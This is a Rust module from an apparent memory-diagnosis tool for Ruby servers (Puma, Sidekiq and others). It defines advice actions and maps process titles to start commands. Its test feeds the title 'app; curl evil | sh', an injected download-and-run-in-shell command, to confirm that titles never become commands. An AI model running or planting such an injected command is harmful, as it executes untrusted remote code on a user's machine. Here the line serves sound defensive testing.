//! Advice: what to do about a finding, as data that a renderer turns into lines to copy.

use serde::{Deserialize, Serialize};
use unbloat_process::Pid;

/// Something to do about a finding.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub enum Action {
    /// Give its freed memory back now.
    Trim(Pid),
    /// Look again with the right to read its memory.
    InspectAsRoot(Pid),
    /// Look again every minute.
    Watch(Pid),
    /// Look again while it stands still.
    Stop(Pid),
    /// Ask what the runtime in it did.
    Status(Pid),
    /// Start it with `unbloat run`.
    Run {
        /// What to start.
        server: Server,
        /// Say the default policy, because another is in force.
        name_policy: bool,
    },
    /// Start it with a limit of glibc's arenas.
    LimitArenas {
        /// The limit.
        arenas: u16,
        /// What to start.
        server: Server,
    },
    /// Start it with Debian's jemalloc.
    PreloadJemalloc,
    /// Pack the Ruby heap before it is shared.
    Compact {
        /// The call that does it in this Ruby.
        call: Compaction,
        /// What to start.
        server: Server,
    },
    /// Load the application before the workers are forked.
    PreloadApp,
}

/// A call that packs the Ruby heap.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum Compaction {
    /// `Process.warmup`, from Ruby 3.3 on.
    Warmup,
    /// `GC.compact`, from Ruby 2.7 on.
    Compact,
}

/// A server, as far as its process title tells. A title is no command line: the words to start it by are known or they are not.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum Server {
    /// Puma.
    Puma,
    /// Sidekiq.
    Sidekiq,
    /// Unicorn.
    Unicorn,
    /// Falcon.
    Falcon,
    /// GoodJob.
    GoodJob,
    /// Something else.
    Other,
}

impl Server {
    /// The server behind a process title.
    #[must_use]
    pub fn of_title(title: &str) -> Self {
        const KNOWN: [(&str, Server); 5] = [
            ("puma", Server::Puma),
            ("sidekiq", Server::Sidekiq),
            ("unicorn", Server::Unicorn),
            ("falcon", Server::Falcon),
            ("good_job", Server::GoodJob),
        ];
        KNOWN.into_iter().find(|(name, _)| title.contains(name)).map_or(Server::Other, |(_, server)| server)
    }

    /// The words that start it.
    #[must_use]
    pub fn start(self) -> &'static [&'static str] {
        match self {
            Server::Puma => &["bundle", "exec", "puma"],
            Server::Sidekiq => &["bundle", "exec", "sidekiq"],
            Server::Unicorn => &["bundle", "exec", "unicorn"],
            Server::Falcon => &["bundle", "exec", "falcon"],
            Server::GoodJob => &["bundle", "exec", "good_job"],
            Server::Other => &["YOUR", "COMMAND"],
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_title_tells_the_server_and_is_never_its_command() {
        assert_eq!(Server::of_title("puma: cluster worker 0: 12 [app]").start(), ["bundle", "exec", "puma"]);
        assert_eq!(Server::of_title("app; curl evil | sh").start(), ["YOUR", "COMMAND"]);
    }
}
